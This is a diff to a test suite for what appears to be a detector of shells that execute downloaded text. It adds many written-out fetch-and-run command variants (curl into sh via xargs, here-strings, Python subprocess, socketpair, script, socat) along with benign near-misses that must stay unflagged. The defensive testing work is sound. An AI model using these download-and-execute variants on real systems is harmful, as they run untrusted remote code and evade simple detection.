@@ -75,6 +75,36 @@ describe.skipIf(cannotTrace !== undefined)("text a shell takes in itself", () =>
     expect(byShell(RULE, "argument-mark")).toMatchObject([{ severity: "medium", certainty: "inferred" }]);
   });
 
+  const PYTHON = "import subprocess as s, sys, socket, pty, os\n";
+  const FETCH = "s.check_output(['curl', '-s', 'URL'])";
+  test.for<readonly [name: string, severity: string, command: readonly string[]]>([
+    ["in-place", "medium", ["sh", "-c", `exec sh -c "$(curl -s URL)" in-place-mark`]],
+    ["wrapped", "medium", ["sh", "-c", `timeout 9 nice sh -c "$(curl -s URL)"; : wrapped-mark`]],
+    ["appended", "medium", ["sh", "-c", `curl -s URL | xargs -0 --process-slot-var=appended-mark sh -c`]],
+    ["replaced", "medium", ["sh", "-c", `curl -s URL | xargs -I{} sh -c '{}' replaced-mark`]],
+    ["by-language", "low", ["python3", "-c", `${PYTHON}s.run(['sh', '-c', ${FETCH}, 'by-language-mark'])`]],
+    ["echoed", "low", ["bash", "-c", `v=$(curl -s URL); echo "$v" | sh -s echoed-mark`]],
+    ["here-string", "low", ["bash", "-c", `v=$(curl -s URL); sh -s here-string-mark <<< "$v"; :`]],
+    ["popen", "medium", ["python3", "-c", `${PYTHON}s.run(['sh', '-s', 'popen-mark'], input=${FETCH})`]],
+    [
+      "socketpair",
+      "medium",
+      [
+        "python3",
+        "-c",
+        `${PYTHON}d = ${FETCH}\na, b = socket.socketpair()\np = s.Popen(['sh', '-s', 'socketpair-mark'], stdin=b)\nb.close()\na.sendall(d)\na.close()\np.wait()`,
+      ],
+    ],
+    ["terminal", "medium", ["sh", "-c", `curl -s URL | script -qec 'sh -s terminal-mark' /dev/null`]],
+    ["relayed", "medium", ["sh", "-c", `socat -u EXEC:'sh f' EXEC:'sh -s relayed-mark'`]],
+  ])("a download that is handed over: %s", async ([name, severity, [program = "", ...args]], { skip }) => {
+    for (const needed of [program, "curl", "script", "socat"])
+      if (!installed(needed)) skip(`${needed} is not installed`);
+    const at = url(`${name}/x.sh`);
+    await run(name, [program, ...args.map((word) => word.replace("URL", at))], { ...payload, f: `curl -s ${at}\n` });
+    expect(byShell(RULE, `${name}-mark`)).toMatchObject([{ severity, certainty: "inferred" }]);
+  });
+
   test("in bash: a process substitution that is sourced, and a connection of its own", async ({ skip }) => {
     if (!installed("bash")) skip("bash is not installed");
     await run("substituted", ["bash", "-c", `. <(curl -s ${url("substituted/x.sh")}); : substituted-mark`], payload);
@@ -96,10 +126,33 @@ describe.skipIf(cannotTrace !== undefined)("text a shell takes in itself", () =>
     await quiet("program", `curl -s URL -o f; sort f > g; wc -l < g; sort < f`);
     await quiet("answer", `curl -s URL | sort | while read l; do sleep 0; done`);
     await quiet("pasted", `v=$(curl -s URL); echo "$v" | python3 -c 'import sys; sys.stdin.read()'`);
+    await quiet(
+      "printed",
+      `echo $(curl -s URL); curl -s URL | xargs -n 1 echo; curl -s URL | xargs -I{} sh -c 'test "{}"'`,
+    );
+    await quiet("fixed", `v=$(curl -s URL); sh -c 'sleep 0; true'; timeout 9 sh -c "sleep 0; true"; sh -c "awk 1 f"`);
+    await quiet("parsed", `v=$(curl -s URL); echo "$v" | awk '{ print $1 }'; echo "$v" | sh -c 'cat; sleep 0'`);
+    await quiet(
+      "languages",
+      `python3 -c 'import subprocess as s; s.check_output(["curl", "-s", "URL"]); s.run("sleep 0; true", shell=True)'`,
+    );
+    await quiet("backup", `tar cf - x.sh | sh -c 'cat > y; sleep 0'; script -qec 'sleep 0' /dev/null`);
     await quiet("written", `echo sleep 0 > own; . ./own; ls`);
     others.end();
     world.drain();
-    const marks = ["value", "filtered", "program", "answer", "pasted", "written"];
+    const marks = [
+      "value",
+      "filtered",
+      "program",
+      "answer",
+      "pasted",
+      "printed",
+      "fixed",
+      "parsed",
+      "languages",
+      "backup",
+      "written",
+    ];
     expect(marks.flatMap((mark) => byShell(RULE, `${mark}-mark`)).map(({ reason }) => reason)).toEqual([]);
     expect(told(RULE, "/others")).toEqual([]);
   });
